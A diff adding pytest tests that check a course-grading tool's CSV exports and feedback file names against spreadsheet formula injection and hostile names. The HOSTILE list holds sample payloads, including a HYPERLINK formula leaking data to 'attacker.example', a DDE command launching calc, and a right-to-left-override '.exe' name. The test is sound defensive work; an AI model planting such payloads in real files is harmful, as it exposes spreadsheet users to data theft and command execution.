@@ -5,15 +5,18 @@ from __future__ import annotations
 import csv
 import json
 import shutil
+import unicodedata
 from dataclasses import replace
 
 import pytest
 
 from coursekit.cli.app import main
-from coursekit.exporters import Batch
+from coursekit.exporters import Batch, get_exporter
 from coursekit.exporters.feedback import render_feedback, write_feedback
 from coursekit.exporters.gradebook import write_csv
 from coursekit.exporters.report import render_report
+from coursekit.grading.csvfiles import read_rows
+from coursekit.grading.identity import Roster
 from coursekit.grading.results import (
     ExerciseGrade,
     ResultsError,
@@ -24,6 +27,7 @@ from coursekit.grading.results import (
 from coursekit.model.exercises import lessons
 
 from .conftest import LESSONS
+from .test_lms import canvas_rows
 
 
 def grade(path, statuses, lesson="02_percentages", feedback="x"):
@@ -150,3 +154,77 @@ def test_score_histogram_counts_whole_submissions():
 
     ticks = score_chart(pd.Series([1, 2, 2, 8]), 8).axes[0].get_yticks()
     assert all(float(t).is_integer() for t in ticks)
+
+
+# Outputs safe to open: what a learner names cannot run in the teacher's spreadsheet.
+
+#: Submissions named as the security review named them, beside an honest one.
+HOSTILE = ['=HYPERLINK("attacker.example?"&A1,"open")', "-rf --help",
+           "report\u202egnp.exe", "+cmd|' -C calc'!A0", "@SUM(1+1)", "\tx", "\r=1+1"]
+
+
+#: What OWASP's page on CSV injection lists as the first characters of a formula.
+OWASP_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def runnable(cell: str) -> bool:
+    """Whether a spreadsheet would run the cell as a formula (a number is a number)."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        return cell.lstrip(" ")[:1] in OWASP_FORMULA_STARTS
+
+
+def hostile_batch(tmp_path):
+    roster = tmp_path / "roster.csv"
+    roster.write_text("learner,name,email,id\nalice,Alice,alice@example.org,4021\n"
+                      'hyperlink,"=HYPERLINK(""http://x.example"")",h@example.org,4022\n',
+                      encoding="utf-8")
+    grades = [grade("class/alice.ipynb", ["correct"] * 8),
+              grade("class/hyperlink.ipynb", ["correct"] * 2 + ["incorrect"] * 6),
+              *(grade(f"class/{name}.ipynb", ["correct"] * 3) for name in HOSTILE)]
+    return Batch(grades, Roster.from_csv(roster), frozenset(lessons()))
+
+
+def test_no_csv_the_project_writes_can_run_a_formula(tmp_path):
+    hostile = hostile_batch(tmp_path)
+    for name in ("csv", "canvas", "moodle"):
+        get_exporter(name).write(hostile, tmp_path / f"{name}.csv")
+    written = sorted(set(tmp_path.glob("*.csv")) - {tmp_path / "roster.csv"})
+    for path in written:
+        with open(path, encoding="utf-8-sig", newline="") as stream:
+            cells = [cell for row in csv.reader(stream) for cell in row]
+        assert not [cell for cell in cells if runnable(cell)], path.name
+        assert "'-rf --help" in cells or path.name in ("canvas.csv", "moodle.csv")
+    assert [p.name for p in written] == ["canvas-not-imported.csv", "canvas.csv", "csv.csv",
+                                         "moodle-not-imported.csv", "moodle.csv"]
+    # what coursekit reads back (a roster, scores) is what was written before the quote
+    back = read_rows(tmp_path / "csv.csv", ValueError)
+    assert [row["learner"] for row in back] == ["alice", "hyperlink", *HOSTILE]
+    assert [row["total"] for row in back] == ["8", "2", *["3"] * len(HOSTILE)]
+    # the roster's learner whose name is a formula keeps their grade, their name quoted
+    assert ["4022", "'=HYPERLINK(\"http://x.example\")", "2"] in [
+        [row[1], row[0], row[5]] for row in canvas_rows(tmp_path / "canvas.csv")]
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    (-2.0, "-2"), (8, "8"), (0.5, "0.5"), (None, ""), ("-2", "'-2"), ("a-b", "a-b"),
+    ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"), (True, "True")])
+def test_numbers_stay_numbers_and_text_is_neutralised(value, written):
+    from coursekit.grading.csvfiles import safe_cell
+
+    assert safe_cell(value) == written
+
+
+def test_feedback_file_names_are_visible_short_and_never_options(tmp_path):
+    names = [p.name for p in write_feedback(hostile_batch(tmp_path), tmp_path / "fb")]
+    assert len(set(n.casefold() for n in names)) == len(names) == 2 + len(HOSTILE)
+    for name in names:
+        assert not name.startswith(("-", ".")), name
+        assert not any(unicodedata.category(c)[0] == "C" for c in name), name
+        assert len(name.encode("utf-8")) <= 130 and name.endswith(".html")
+    assert "rf --help.html" in names and "reportgnp.exe.html" in names
+    long = write_feedback(batch([grade(f"class/{'é' * 300}.ipynb", ["correct"])]),
+                          tmp_path / "long")
+    assert len(long[0].name.encode("utf-8")) <= 130
